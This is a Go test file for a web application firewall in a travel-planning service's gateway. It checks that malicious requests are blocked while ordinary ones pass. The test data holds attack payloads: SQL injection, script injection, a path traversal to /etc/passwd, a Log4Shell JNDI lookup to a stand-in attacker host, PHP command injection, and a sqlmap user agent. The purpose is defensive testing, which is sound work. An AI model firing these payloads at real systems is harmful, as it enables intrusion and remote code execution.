package screen_test

import (
	"bytes"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/stretchr/testify/require"

	"sojourn/internal/gateway/screen"
)

// passed loads a screen and tells whether requests come through.
func passed(t *testing.T, mode string) (func(method, target string, header ...string) bool, *bytes.Buffer) {
	t.Helper()
	var logs bytes.Buffer
	s, err := screen.New(mode, slog.New(slog.NewTextHandler(&logs, nil)), func(w http.ResponseWriter, _ *http.Request, _ error) { w.WriteHeader(http.StatusForbidden) })
	require.NoError(t, err)
	handler := s.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	return func(method, target string, header ...string) bool {
		r := httptest.NewRequest(method, "http://trips.example.org"+target, nil)
		r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120")
		r.Header.Set("Accept", "*/*")
		for i := 0; i+1 < len(header); i += 2 {
			r.Header.Set(header[i], header[i+1])
		}
		w := httptest.NewRecorder()
		handler.ServeHTTP(w, r)
		return w.Code == http.StatusOK
	}, &logs
}

func TestBlock(t *testing.T) {
	t.Parallel()
	passes, _ := passed(t, screen.Block)
	for _, attack := range []string{
		"/api/v1/search/suggest?q=%27%20or%201=1--%20", "/api/v1/search/suggest?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"/static/..%2f..%2fetc/passwd", "/api/v1/search/locations?q=%24%7Bjndi:ldap://evil.example/a%7D", "/?x=%3C?php%20system(%27id%27)",
	} {
		require.False(t, passes("GET", attack), attack)
	}
	require.False(t, passes("GET", "/", "User-Agent", "sqlmap/1.7"))
	for _, honest := range []string{
		"/", "/app/trips/0199c0de-7a3b-7cc1-9f2e-3b1f5a6d7e80?day=2027-05-01", "/api/v1/search/suggest?q=O%27Brien%27s+pub+%26+grill",
		"/api/v1/search/locations?q=select+hotel+from+rome&lat=38.7&lon=-9.1&radius=1000", "/api/v1/geo/route?points=38.69,-9.21;38.70,-9.22",
		"/api/v1/search/suggest?q=%E6%9D%B1%E4%BA%AC", "/api/v1/itineraries?cursor=MDE5OWMwZGU",
	} {
		require.True(t, passes("GET", honest), honest)
	}
	for _, method := range []string{"POST", "PUT", "PATCH", "DELETE"} {
		require.True(t, passes(method, "/api/v1/itineraries/0199c0de-7a3b-7cc1-9f2e-3b1f5a6d7e80/items", "Content-Type", "application/json", "Content-Length", "0",
			"Authorization", "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6IjdhNjU0YzcyIiwidHlwIjoiSldUIn0.eyJpc3MiOiJzb2pvdXJuIn0.c2lnbmF0dXJl"), method)
	}
}

func TestLog(t *testing.T) {
	t.Parallel()
	passes, logs := passed(t, screen.Log)
	require.True(t, passes("GET", "/api/v1/search/suggest?q=%3Cscript%3Ealert(1)%3C/script%3E"))
	require.Contains(t, logs.String(), "rule=941")
	require.Contains(t, logs.String(), "blocked=false")
}
